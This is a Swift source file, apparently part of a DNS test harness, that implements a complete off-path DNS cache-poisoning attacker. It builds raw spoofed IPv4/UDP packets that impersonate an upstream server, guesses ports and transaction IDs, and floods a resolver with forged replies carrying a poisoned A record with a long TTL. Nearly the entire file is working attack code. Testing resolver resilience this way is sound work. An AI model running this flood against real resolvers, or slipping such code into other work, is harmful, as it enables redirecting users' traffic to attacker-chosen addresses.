import DNSWire
import Glibc

/// The off-path attacker of a cache-poisoning test: it floods forged DNS
/// *replies* at a resolver's upstream-side address, pretending to be the
/// upstream (its source address, port 53), for the names being asked, with
/// guessed destination ports and random IDs, each carrying a poisoned A record.
///
/// It writes whole IPv4 packets on a raw socket (`IP_HDRINCL`), so the source
/// address can be anything; the socket comes from the factory, so the runner can
/// make it inside the attacker host's namespace (raw sockets need CAP_NET_RAW
/// there). IPv4 only. Bounded by `count`, `rate` and `duration`; `stop()` ends it
/// early. Runs on its own thread after `start()`.
///
/// Compared with `Spoofer.flood` (a `PacketFlood` from a UDP socket with
/// IP_TRANSPARENT): the raw socket needs no local route or bind for the forged
/// source, the names can follow what the resolver is asking right now
/// (`.live`), ports can be swept, and a duration bounds the flood.
public final class RawSpoofer: @unchecked Sendable {
    /// Which destination ports to guess.
    public enum Ports: Sendable, Equatable, CustomStringConvertible {
        /// A uniformly random port of the range for each packet.
        case random(ClosedRange<UInt16>)
        /// Every port of the range in turn, then again from the start.
        case sweep(ClosedRange<UInt16>)

        /// The whole unprivileged range, at random: the usual guess.
        public static let unprivileged = Ports.random(1024...65535)

        public var description: String {
            switch self {
            case .random(let r): return "random \(r.lowerBound)-\(r.upperBound)"
            case .sweep(let r): return "sweep \(r.lowerBound)-\(r.upperBound)"
            }
        }
    }

    /// The question names to forge replies for.
    public enum Names: @unchecked Sendable {
        /// A fixed list, used in turn.
        case list([String])
        /// Asked again every `refresh` seconds for the names in flight right now
        /// (e.g. from a query log); while it returns nothing, nothing is sent.
        case live(refresh: Double, () -> [String])
    }

    public struct Config: @unchecked Sendable {
        /// The address the forged replies go to: the resolver's upstream side.
        public var target: String
        public var ports: Ports
        /// The upstream being impersonated (address and port; the port is 53).
        public var spoofedSource: Endpoint
        public var names: Names
        /// The question type of the forged replies (A).
        public var type: RRType
        /// The poisoned answer: an A record pointing here.
        public var poisonAddress: String
        /// A high TTL, so a poisoned cache keeps the answer.
        public var ttl: UInt32
        /// Bounds: stop after this many packets sent, after `duration` seconds,
        /// whichever comes first. `rate`: packets per second (nil: as fast as it can).
        public var count: Int?
        public var rate: Double?
        public var duration: Double?
        /// Seed of the random IDs and ports (nil: from the clock), for reproducible runs.
        public var seed: UInt64?

        public init(target: String, ports: Ports = .unprivileged, spoofedSource: Endpoint,
                    names: Names, type: RRType = .a, poisonAddress: String, ttl: UInt32 = 604_800,
                    count: Int? = nil, rate: Double? = nil, duration: Double? = nil, seed: UInt64? = nil) {
            self.target = target
            self.ports = ports
            self.spoofedSource = spoofedSource
            self.names = names
            self.type = type
            self.poisonAddress = poisonAddress
            self.ttl = ttl
            self.count = count
            self.rate = rate
            self.duration = duration
            self.seed = seed
        }
    }

    public let config: Config
    /// Packets written to the raw socket so far.
    public var sent: Int { mutex.locked { sentCount } }
    /// Sends that failed (ENOBUFS etc.); the flood goes on.
    public var sendErrors: Int { mutex.locked { errorCount } }
    /// The errno text of the first failed send, if any.
    public var firstSendError: String? { mutex.locked { firstError } }
    /// True once the flood has ended (a bound reached, or stopped).
    public var isFinished: Bool { mutex.locked { finished } }

    private let fd: Int32
    private let targetAddress: [UInt8]
    private let sourceAddress: [UInt8]
    private let poison: IPv4Address
    private let mutex = ActorMutex()
    private let doneCond = ActorCondition()
    private let stopSignal = StopSignal()
    private var sentCount = 0
    private var errorCount = 0
    private var firstError: String?
    private var finished = false
    private var started = false
    private var thread: ActorThread?

    /// Checks the configuration and opens the raw socket (nothing is sent until
    /// `start()`). Errors name the bad field, or the socket call that failed.
    public init(_ config: Config, socketFactory: SocketFactory = loopbackSocketFactory) throws {
        guard let target = IPv4Address(config.target) else {
            throw ActorError("spoofer: target \"\(config.target)\" is not an IPv4 address")
        }
        guard config.spoofedSource.family == .v4 else {
            throw ActorError("spoofer: spoofed source \(config.spoofedSource) is not IPv4 (the spoofer is IPv4 only)")
        }
        guard let poison = IPv4Address(config.poisonAddress) else {
            throw ActorError("spoofer: poison address \"\(config.poisonAddress)\" is not an IPv4 address")
        }
        if let c = config.count, c < 0 { throw ActorError("spoofer: count \(c) is negative") }
        if let r = config.rate, !(r > 0) { throw ActorError("spoofer: rate \(r) is not above 0") }
        if let d = config.duration, !(d >= 0) { throw ActorError("spoofer: duration \(d) is negative") }
        if case .list(let names) = config.names {
            guard !names.isEmpty else { throw ActorError("spoofer: the name list is empty") }
            for n in names {
                do { _ = try DNSName(n) } catch { throw ActorError("spoofer: bad name \"\(n)\": \(error)") }
            }
        }
        if case .live(let refresh, _) = config.names, !(refresh > 0) {
            throw ActorError("spoofer: name refresh interval \(refresh) is not above 0")
        }
        self.config = config
        self.targetAddress = target.array
        self.sourceAddress = config.spoofedSource.addressBytes
        self.poison = poison
        let fd = try socketFactory(AF_INET, Int32(SOCK_RAW.rawValue), Int32(IPPROTO_RAW))
        var on: Int32 = 1
        if setsockopt(fd, Int32(IPPROTO_IP), IP_HDRINCL, &on, socklen_t(MemoryLayout<Int32>.size)) != 0 {
            let e = ActorError.errno("spoofer: setsockopt(IP_HDRINCL)")
            close(fd)
            throw e
        }
        _ = fcntl(fd, F_SETFD, FD_CLOEXEC)
        self.fd = fd
    }

    deinit {
        stop()
        close(fd)
    }

    /// Starts the flood on its own thread (once; later calls do nothing).
    public func start() throws {
        let first: Bool = mutex.locked {
            defer { started = true }
            return !started
        }
        guard first else { return }
        thread = try ActorThread(name: "spoofer") { [self] in self.run() }
    }

    /// Ends the flood and waits for the thread. Safe to call more than once.
    public func stop() {
        stopSignal.stop()
        thread?.join()
    }

    /// Waits until the flood ends by itself (a bound reached) or is stopped.
    /// Returns false on timeout.
    @discardableResult
    public func wait(timeout: Double) -> Bool {
        let deadline = SimClock.monotonic() + timeout
        mutex.lock()
        defer { mutex.unlock() }
        while !finished && SimClock.monotonic() < deadline {
            doneCond.wait(mutex, until: deadline)
        }
        return finished
    }

    // MARK: - the flood

    private func run() {
        defer {
            mutex.locked {
                finished = true
                doneCond.broadcast()
            }
        }
        var rng = RawSpoofRandom(seed: config.seed ?? UInt64(SimClock.monotonic() * 1e9) ^ 0x5DEECE66D)
        let start = SimClock.monotonic()
        let end = config.duration.map { start + $0 }
        let limit = config.count ?? Int.max
        var templates: [String: [UInt8]] = [:]     // name -> DNS payload with ID 0
        var names: [String] = []
        var nameIndex = 0
        var nextRefresh = start
        var sweep = 0
        var packet = [UInt8](repeating: 0, count: 20 + 8 + 512)
        var n = 0
        while n < limit {
            if stopSignal.isStopped { return }
            let now = SimClock.monotonic()
            if let end = end, now >= end { return }
            switch config.names {
            case .list(let list): names = list
            case .live(let refresh, let provider):
                if now >= nextRefresh {
                    names = provider()
                    nextRefresh = now + refresh
                    if templates.count > 4096 { templates.removeAll(keepingCapacity: true) }
                }
                if names.isEmpty {
                    let wake = end.map { min($0, nextRefresh) } ?? nextRefresh
                    if stopSignal.wait(until: wake) { return }
                    continue
                }
            }
            if let rate = config.rate {
                let due = start + Double(n) / rate
                if due > now {
                    if stopSignal.wait(until: due) { return }
                    if let end = end, SimClock.monotonic() >= end { return }
                }
            }
            let name = names[nameIndex % names.count]
            nameIndex &+= 1
            let payload: [UInt8]
            if let t = templates[name] { payload = t } else {
                guard let t = forgedReply(name) else { continue }   // a live name that is not a DNS name
                templates[name] = t
                payload = t
            }
            let port: UInt16
            switch config.ports {
            case .random(let r):
                port = UInt16(truncatingIfNeeded: UInt32(r.lowerBound) + UInt32(rng.next() % UInt64(r.count)))
            case .sweep(let r):
                port = UInt16(truncatingIfNeeded: UInt32(r.lowerBound) + UInt32(sweep % r.count))
                sweep += 1
            }
            let id = UInt16(truncatingIfNeeded: rng.next())
            let length = buildPacket(&packet, payload: payload, id: id, port: port,
                                     ipID: UInt16(truncatingIfNeeded: rng.next() >> 16))
            let rc = sendPacket(packet, length: length)
            n += 1
            mutex.locked {
                if rc == 0 { sentCount += 1 } else {
                    errorCount += 1
                    if firstError == nil { firstError = String(cString: strerror(rc)) }
                }
            }
            if rc == ENOBUFS || rc == EAGAIN {
                // The queue is full: let it drain rather than spin.
                if stopSignal.wait(until: SimClock.monotonic() + 0.001) { return }
            }
        }
    }

    /// The DNS payload of a forged reply for `name` (ID 0, patched per packet):
    /// QR, RD, RA, NOERROR, the question, and the poisoned A record.
    func forgedReply(_ name: String) -> [UInt8]? {
        RawSpoofer.forgedReply(name, type: config.type, ttl: config.ttl, poison: poison)
    }

    static func forgedReply(_ name: String, type: RRType, ttl: UInt32, poison: IPv4Address) -> [UInt8]? {
        guard let dn = try? DNSName(name) else { return nil }
        var m = Message(header: Header(id: 0, isResponse: true, recursionDesired: true, recursionAvailable: true),
                        questions: [Question(name: dn, type: type)])
        m.answers = [ResourceRecord(name: dn, type: type, ttl: ttl, rdata: .a(poison))]
        let bytes = m.encode()
        return bytes.count <= 512 ? bytes : nil
    }

    /// Writes IPv4 + UDP headers and the payload (with `id`) into `packet`;
    /// returns the total length.
    func buildPacket(_ packet: inout [UInt8], payload: [UInt8], id: UInt16, port: UInt16, ipID: UInt16) -> Int {
        RawSpoofer.buildPacket(&packet, source: sourceAddress, sourcePort: config.spoofedSource.port,
                            target: targetAddress, payload: payload, id: id, port: port, ipID: ipID)
    }

    static func buildPacket(_ packet: inout [UInt8], source sourceAddress: [UInt8], sourcePort sport: UInt16,
                            target targetAddress: [UInt8], payload: [UInt8], id: UInt16, port: UInt16,
                            ipID: UInt16) -> Int {
        let udpLength = 8 + payload.count
        let total = 20 + udpLength
        if packet.count < total { packet += [UInt8](repeating: 0, count: total - packet.count) }
        packet.withUnsafeMutableBytes { p in
            // IPv4 header: version 4, IHL 5, no options.
            p[0] = 0x45; p[1] = 0
            p[2] = UInt8(total >> 8); p[3] = UInt8(total & 0xFF)
            p[4] = UInt8(ipID >> 8); p[5] = UInt8(ipID & 0xFF)
            p[6] = 0x40; p[7] = 0                     // DF, no fragment offset
            p[8] = 64; p[9] = UInt8(IPPROTO_UDP)
            p[10] = 0; p[11] = 0
            for i in 0..<4 { p[12 + i] = sourceAddress[i]; p[16 + i] = targetAddress[i] }
            let ipSum = RawSpoofer.checksum(UnsafeRawBufferPointer(rebasing: p[0..<20]), initial: 0)
            p[10] = UInt8(ipSum >> 8); p[11] = UInt8(ipSum & 0xFF)
            // UDP header.
            p[20] = UInt8(sport >> 8); p[21] = UInt8(sport & 0xFF)
            p[22] = UInt8(port >> 8); p[23] = UInt8(port & 0xFF)
            p[24] = UInt8(udpLength >> 8); p[25] = UInt8(udpLength & 0xFF)
            p[26] = 0; p[27] = 0
            for (i, b) in payload.enumerated() { p[28 + i] = b }
            p[28] = UInt8(id >> 8); p[29] = UInt8(id & 0xFF)
            // UDP checksum over the pseudo-header (addresses, protocol, length) and the datagram.
            var pseudo: UInt32 = 0
            for i in stride(from: 12, to: 20, by: 2) { pseudo += UInt32(p[i]) << 8 | UInt32(p[i + 1]) }
            pseudo += UInt32(IPPROTO_UDP) + UInt32(udpLength)
            var udpSum = RawSpoofer.checksum(UnsafeRawBufferPointer(rebasing: p[20..<total]), initial: pseudo)
            if udpSum == 0 { udpSum = 0xFFFF }
            p[26] = UInt8(udpSum >> 8); p[27] = UInt8(udpSum & 0xFF)
        }
        return total
    }

    /// The Internet checksum (RFC 1071) of `bytes`, starting from `initial`.
    static func checksum(_ bytes: UnsafeRawBufferPointer, initial: UInt32) -> UInt16 {
        var sum = initial
        var i = 0
        while i + 1 < bytes.count {
            sum += UInt32(bytes[i]) << 8 | UInt32(bytes[i + 1])
            i += 2
        }
        if i < bytes.count { sum += UInt32(bytes[i]) << 8 }
        while sum >> 16 != 0 { sum = (sum & 0xFFFF) + (sum >> 16) }
        return ~UInt16(truncatingIfNeeded: sum)
    }

    /// sendto(2) of the first `length` bytes to the target; 0 or the errno.
    private func sendPacket(_ packet: [UInt8], length: Int) -> Int32 {
        var sin = sockaddr_in()
        sin.sin_family = sa_family_t(AF_INET)
        sin.sin_port = 0
        withUnsafeMutableBytes(of: &sin.sin_addr) { dst in targetAddress.withUnsafeBytes { dst.copyMemory(from: $0) } }
        let n = packet.withUnsafeBytes { buf in
            withUnsafePointer(to: &sin) {
                $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                    sendto(fd, buf.baseAddress, length, Int32(MSG_NOSIGNAL), $0, socklen_t(MemoryLayout<sockaddr_in>.size))
                }
            }
        }
        return n < 0 ? errno : 0
    }
}

/// xorshift64*: fast, seedable, good enough for guessing IDs and ports.
struct RawSpoofRandom {
    private var state: UInt64
    init(seed: UInt64) { state = seed == 0 ? 0x9E3779B97F4A7C15 : seed }
    mutating func next() -> UInt64 {
        state ^= state >> 12
        state ^= state << 25
        state ^= state >> 27
        return state &* 0x2545F4914F6CDD1D
    }
}
